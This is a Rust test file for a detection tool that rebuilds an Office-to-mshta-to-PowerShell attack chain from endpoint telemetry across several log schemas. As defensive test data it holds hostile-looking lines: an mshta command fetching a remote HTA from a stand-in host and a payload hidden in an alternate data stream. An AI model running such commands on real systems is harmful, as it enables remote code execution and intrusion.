//! One attack scenario (Office -> mshta with a remote URL -> DNS, network,
//! a download -> child PowerShell -> an executable written), written once
//! in the schema-neutral model of `mshta-chain-telemetry` and rendered into
//! every supported schema and shape, must give the same chain: same host,
//! root pid, image and command line, same children, network and files (as
//! far as the schema can express them: Security auditing has no file or
//! DNS events, Defender no process ends). Reports of one process by two
//! sensors merge into one chain.

use mshta_chain_core::{analyze, Chain, Config, Report};
use mshta_chain_telemetry::{sample, to_jsonl, Kind, RenderOptions, Schema};

fn name(path: &str) -> String {
    path.rsplit(['\\', '/']).next().unwrap_or(path).to_ascii_lowercase()
}

struct Expect {
    children: Vec<String>,
    network: Vec<(String, u16)>,
    files: Vec<String>,
    dns: Vec<String>,
}

fn expected(schema: Schema) -> Expect {
    let events = sample::remote_hta_chain(sample::SAMPLE_START_MS);
    let mut e = Expect { children: vec![], network: vec![], files: vec![], dns: vec![] };
    for ev in &events {
        if !schema.supports(&ev.kind) {
            continue;
        }
        match &ev.kind {
            Kind::ProcessStart(p) if p.pid != 7788 && p.pid != 4312 => e.children.push(name(&p.image)),
            Kind::Network { dst_ip, dst_port, .. } => e.network.push((dst_ip.clone(), *dst_port)),
            Kind::FileCreate { path, .. } => e.files.push(name(path)),
            Kind::Dns { query, .. } => e.dns.push(query.clone()),
            _ => {}
        }
    }
    e
}

fn scan(schema: Schema, opts: &RenderOptions) -> Report {
    let (text, _) = to_jsonl(&sample::remote_hta_chain(sample::SAMPLE_START_MS), schema, opts);
    analyze(text.as_bytes(), &Config::default()).unwrap()
}

fn check(schema: &str, c: &Chain, e: &Expect) {
    assert!(c.host.eq_ignore_ascii_case("WS01.corp.example.com"), "{schema}: host {}", c.host);
    assert_eq!(c.root.pid, 7788, "{schema}");
    assert_eq!(name(&c.root.image), "mshta.exe", "{schema}");
    assert_eq!(
        c.root.command_line.as_deref(),
        Some("mshta.exe https://cdn-update.example.net/invoice.hta"),
        "{schema}"
    );
    assert!(!c.root.inferred, "{schema}");
    assert_eq!(
        c.root.parent.as_ref().and_then(|p| p.image.as_deref()).map(name),
        Some("winword.exe".into()),
        "{schema}"
    );
    assert_eq!(c.root.time, "2024-05-01T10:00:00.000Z", "{schema}");
    let kids: Vec<String> = c.children.iter().map(|k| name(&k.image)).collect();
    assert_eq!(kids, e.children, "{schema}");
    let net: Vec<(String, u16)> =
        c.network.iter().map(|n| (n.dst_ip.clone().unwrap_or_default(), n.dst_port.unwrap_or(0))).collect();
    assert_eq!(net, e.network, "{schema}");
    let files: Vec<String> = c.files.iter().map(|f| name(&f.path)).collect();
    assert_eq!(files, e.files, "{schema}");
    let dns: Vec<String> = c.dns.iter().map(|d| d.query.clone()).collect();
    assert_eq!(dns, e.dns, "{schema}");
    assert!(c.score >= 70, "{schema}: score {}", c.score);
}

#[test]
fn one_scenario_in_every_schema_gives_the_same_chain() {
    for schema in Schema::ALL {
        let report = scan(schema, &RenderOptions::default());
        assert_eq!(report.stats.rejected, 0, "{}: {:?}", schema.name(), report.errors);
        assert_eq!(report.chains.len(), 1, "{}: one chain", schema.name());
        check(schema.name(), &report.chains[0], &expected(schema));
        assert_eq!(report.stats.by_schema.len(), 1, "{}: {:?}", schema.name(), report.stats.by_schema);
    }
}

#[test]
fn sysmon_and_security_of_one_process_merge_even_with_a_mislabelled_local_clock() {
    // The OTRF trap: the flat Security export writes local time (UTC-4)
    // labelled as UTC; Sysmon's UtcTime is true UTC.
    let local = RenderOptions { local_offset_minutes: Some(-240) };
    let events = sample::remote_hta_chain(sample::SAMPLE_START_MS);
    let (sysmon, _) = to_jsonl(&events, Schema::SysmonFlat, &RenderOptions::default());
    let (security, _) = to_jsonl(&events, Schema::SecurityFlat, &local);
    let report = analyze(format!("{security}{sysmon}").as_bytes(), &Config::default()).unwrap();
    assert_eq!(report.chains.len(), 1, "one chain per mshta process, not two");
    let c = &report.chains[0];
    assert_eq!(c.root.sources, vec!["sysmon", "security"]);
    assert_eq!(c.root.events.len(), 2);
    assert_eq!(c.root.time, "2024-05-01T10:00:00.000Z", "the UTC clock wins");
    assert_eq!(c.children.len(), 1, "the child is merged too");
    assert_eq!(c.children[0].events.len(), 2);
    assert_eq!(c.network.len(), 1, "Sysmon 3 and 5156 are one connection");
    assert_eq!(c.network[0].sources, vec!["sysmon", "security"]);
    check("sysmon+security", c, &expected(Schema::SysmonFlat));
}

#[test]
fn every_schema_at_once_on_separate_hosts_and_pipelines() {
    // All schemas in one batch: each on its own host (so they do not merge),
    // plus the Sysmon integration's ECS copy of the Winlogbeat stream on the
    // same host (the same process through two pipelines is one process).
    let mut input = String::new();
    for (i, schema) in Schema::ALL.iter().enumerate() {
        let (text, _) =
            to_jsonl(&sample::remote_hta_chain(sample::SAMPLE_START_MS), *schema, &RenderOptions::default());
        let text = text
            .replace("WS01.corp.example.com", &format!("host{i}.example"))
            .replace("ws01.corp.example.com", &format!("host{i}.example"));
        input.push_str(&text);
    }
    let report = analyze(input.as_bytes(), &Config::default()).unwrap();
    assert_eq!(report.stats.rejected, 0, "{:?}", report.errors);
    assert_eq!(report.chains.len(), Schema::ALL.len());
    let (a, _) = to_jsonl(
        &sample::remote_hta_chain(sample::SAMPLE_START_MS),
        Schema::SysmonWinlogbeat,
        &RenderOptions::default(),
    );
    let (b, _) =
        to_jsonl(&sample::remote_hta_chain(sample::SAMPLE_START_MS), Schema::EcsSysmon, &RenderOptions::default());
    let both = analyze(format!("{a}{b}").as_bytes(), &Config::default()).unwrap();
    assert_eq!(both.chains.len(), 1);
    assert_eq!(both.chains[0].root.events.len(), 2);
}

#[test]
fn bad_items_of_known_schemas_name_the_missing_field() {
    let cases = [
        (
            r#"{"class_uid":1007,"activity_id":1,"metadata":{"version":"1.8.0"},"time":1714557600000,"device":{"hostname":"h"},"process":{"pid":5}}"#,
            "process.file.path",
        ),
        (
            r#"{"Timestamp":"2024-05-01T10:00:00Z","DeviceId":"d","DeviceName":"h","ActionType":"ProcessCreated","FolderPath":"C:\\a.exe"}"#,
            "ProcessId",
        ),
        (
            r#"{"EventID":4688,"Channel":"Security","Hostname":"h","TimeCreated":"2024-05-01T10:00:00Z","NewProcessName":"C:\\a.exe"}"#,
            "NewProcessId",
        ),
        (
            r#"{"@timestamp":"2024-05-01T10:00:00Z","event":{"module":"endpoint","category":["process"],"type":["start"]},"host":{"name":"h"},"process":{"pid":5}}"#,
            "process.executable",
        ),
        (
            r#"{"EventID":5156,"Channel":"Security","Hostname":"h","TimeCreated":"2024-05-01T10:00:00Z","ProcessID":"abc"}"#,
            "ProcessID",
        ),
        (
            r#"{"records":[{"category":"AdvancedHunting-DeviceProcessEvents","properties":{"Timestamp":"2024-05-01T10:00:00Z","DeviceId":"d","DeviceName":"h","ActionType":"ProcessCreated"}}]}"#,
            "ProcessId",
        ),
        (r#"{"some":"thing"}"#, "unrecognised schema"),
    ];
    for (line, field) in cases {
        let r = analyze(line.as_bytes(), &Config::default()).unwrap();
        assert_eq!(r.stats.rejected, 1, "{line}");
        assert!(r.errors[0].reason.contains(field), "{line}: {}", r.errors[0].reason);
    }
}

#[test]
fn sysmon_15_named_streams_are_file_activity() {
    let start = r#"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"H","UtcTime":"2024-05-01 10:00:00.000","ProcessGuid":"{00000000-0000-0000-0000-000000000001}","ProcessId":"10","Image":"C:\\Windows\\System32\\mshta.exe","CommandLine":"mshta https://x.example/a.hta"}"#;
    let ads = r#"{"EventID":15,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"H","UtcTime":"2024-05-01 10:00:01.000","ProcessGuid":"{00000000-0000-0000-0000-000000000001}","ProcessId":"10","Image":"C:\\Windows\\System32\\mshta.exe","TargetFilename":"C:\\Users\\Public\\notes.txt:payload.hta","Hash":"SHA256=00"}"#;
    let report = analyze(format!("{start}\n{ads}\n").as_bytes(), &Config::default()).unwrap();
    assert_eq!(report.chains[0].files[0].path, "C:\\Users\\Public\\notes.txt:payload.hta");
}

#[test]
fn defender_stream_wrappers_holding_many_records_keep_every_record() {
    // The streaming API batches rows: one `{"records":[...]}` line may hold
    // a hundred of them. Every record must count as its own event (the
    // network events among them were once collapsed into one).
    let (text, _) =
        to_jsonl(&sample::remote_hta_chain(sample::SAMPLE_START_MS), Schema::DefenderStream, &RenderOptions::default());
    let one_per_line = analyze(text.as_bytes(), &Config::default()).unwrap();
    let records: Vec<serde_json::Value> = text
        .lines()
        .flat_map(|l| {
            let v: serde_json::Value = serde_json::from_str(l).unwrap();
            v["records"].as_array().unwrap().clone()
        })
        .collect();
    for per_line in [2, 3, 100] {
        let wrapped: String =
            records.chunks(per_line).map(|c| serde_json::json!({ "records": c }).to_string() + "\n").collect();
        let report = analyze(wrapped.as_bytes(), &Config::default()).unwrap();
        assert_eq!(report.stats.rejected, 0, "{per_line} per line: {:?}", report.errors);
        assert_eq!(report.chains.len(), one_per_line.chains.len(), "{per_line} per line");
        let (a, b) = (&report.chains[0], &one_per_line.chains[0]);
        let net = |c: &Chain| c.network.iter().map(|n| (n.dst_ip.clone(), n.dst_port, n.direction)).collect::<Vec<_>>();
        assert_eq!(net(a), net(b), "{per_line} per line: network");
        let files = |c: &Chain| c.files.iter().map(|f| f.path.clone()).collect::<Vec<_>>();
        assert_eq!(files(a), files(b), "{per_line} per line: files");
        let dns = |c: &Chain| c.dns.iter().map(|d| d.query.clone()).collect::<Vec<_>>();
        assert_eq!(dns(a), dns(b), "{per_line} per line: dns");
        let kids = |c: &Chain| c.children.iter().map(|k| k.pid).collect::<Vec<_>>();
        assert_eq!(kids(a), kids(b), "{per_line} per line: children");
        assert_eq!(a.score, b.score, "{per_line} per line: score");
    }
}
